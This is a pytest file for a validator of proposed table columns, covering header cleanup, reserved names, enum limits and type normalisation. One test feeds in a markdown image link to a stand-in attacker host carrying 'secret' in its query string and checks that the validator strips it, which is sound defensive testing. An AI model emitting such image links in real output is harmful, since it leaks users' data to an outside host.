"""What a proposed column comes to."""

from typing import Any

import pytest

from schemas.table.context import DataType
from schemas.table.wire import WireColumn
from services.check.proposal.proposed_column import read_members, read_proposal

TAKEN = {"name", "length of a day"}


def said(**fields: Any) -> WireColumn:
    return WireColumn.model_validate({"name": "Mass", "dataType": "decimal"} | fields)


HEADERS = [
    ("Mass", "Mass", [], []),
    (" Mass \n(kg)\t", "Mass (kg)", ["C01"], []),
    ("", None, ["C01"], []),
    ("x" * 81, None, ["C01"], []),
    ("<b>Mass</b>", "Mass", ["C01"], []),
    ("NAME", None, ["C02"], []),
    ("Length  of a\u00a0Day", None, ["C02"], []),
    ("\uff2e\uff41\uff4d\uff45", None, ["C02"], []),
    ("Column 1", "Column 1", [], ["C03"]),
    ("Data", "Data", [], ["C03"]),
    ("質量の値", "質量の値", [], ["C15"]),
]


@pytest.mark.parametrize(("name", "header", "found", "doubts"), HEADERS)
def test_a_header_is_tidy_new_and_says_something(
    name: str, header: str | None, found: list[str], doubts: list[str]
) -> None:
    proposal = read_proposal(said(name=name), "proposed column 1", TAKEN, "LATIN")
    assert (proposal.column.name if proposal.column else None) == header
    assert [item.id for item in proposal.found] == found
    assert [item.id for item in proposal.doubts] == doubts


ENUMS: list[tuple[list[str] | None, DataType, tuple[str, ...] | None, list[str]]] = [
    (["A", "B"], DataType.ENUM, ("A", "B"), []),
    ([" A ", "a", "B", ""], DataType.ENUM, ("A", "B"), ["C11"]),
    (["A"], DataType.TEXT, None, ["C11"]),
    (None, DataType.TEXT, None, ["C11"]),
    ([str(n) for n in range(13)], DataType.TEXT, None, ["C11"]),
]


@pytest.mark.parametrize(("members", "kind", "kept", "ids"), ENUMS)
def test_an_enum_has_2_to_12_different_values(
    members: list[str] | None, kind: DataType, kept: tuple[str, ...] | None, ids: list[str]
) -> None:
    proposal = read_proposal(said(dataType="enum", enumValues=members), "", TAKEN, None)
    assert proposal.column is not None
    assert (proposal.column.data_type, proposal.column.enum_values) == (kind, kept)
    assert [item.id for item in (*proposal.found, *proposal.doubts)] == ids


@pytest.mark.parametrize(
    ("name", "kind"),
    [("number", "decimal"), ("Date", "datetime"), ("string", "text"), ("whatever", "text")],
)
def test_a_type_by_another_name_is_brought_into_form(name: str, kind: str) -> None:
    proposal = read_proposal(said(dataType=name), "", TAKEN, None)
    assert proposal.column is not None
    assert proposal.column.data_type == kind
    assert [item.id for item in proposal.found] == ["C10"]


def test_links_are_taken_out_of_the_reason() -> None:
    why = "because ![x](http://attacker.test/?q=secret) it helps"
    proposal = read_proposal(said(why=why), "", TAKEN, None)
    assert proposal.column is not None
    assert proposal.column.why == "because it helps"
    assert [item.id for item in proposal.found] == ["C18"]


def test_a_finding_never_quotes_what_was_said() -> None:
    proposal = read_proposal(said(name="SECRET" * 20), "proposed column 1", TAKEN, None)
    assert "SECRET" not in str(proposal.found)


def test_units_of_other_capitals_are_other_members_of_an_enum() -> None:
    assert read_members(["mW", "MW", "mW ", "Watt", "watt"]) == ("mW", "MW", "Watt")
